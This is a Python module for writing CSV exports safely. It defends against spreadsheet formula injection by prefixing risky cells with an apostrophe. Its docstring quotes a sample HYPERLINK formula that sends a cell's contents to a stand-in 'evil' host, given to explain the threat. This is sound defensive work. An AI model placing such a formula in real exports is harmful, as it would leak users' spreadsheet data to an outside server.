"""CSV cells a spreadsheet shows as text, never runs as a formula.

A utm value, a referrer or a landing page is typed by whoever made the link; in a CSV export a cell such
as ``=HYPERLINK("http://evil/?"&A1)`` would be a live formula once opened in Excel or LibreOffice. A cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets take as "this is text". A plain number (``-12.5``) or phone number (``+74951110001``) is
left alone: it is data a spreadsheet cannot run, and an apostrophe would spoil it.

Pure.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")

Cell = str | int | float | None


def safe_cell(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, int | float):
        return str(value)
    if value.startswith(_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Cell]], *, delimiter: str = ",", safe: bool = True) -> str:
    """Rows as CSV text (CRLF line ends, quoting where needed); every cell made safe unless `safe` is
    false (for files only machines read, whose cells are checked by their writer instead)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    for row in rows:
        writer.writerow([safe_cell(cell) if safe else ("" if cell is None else str(cell)) for cell in row])
    return out.getvalue()
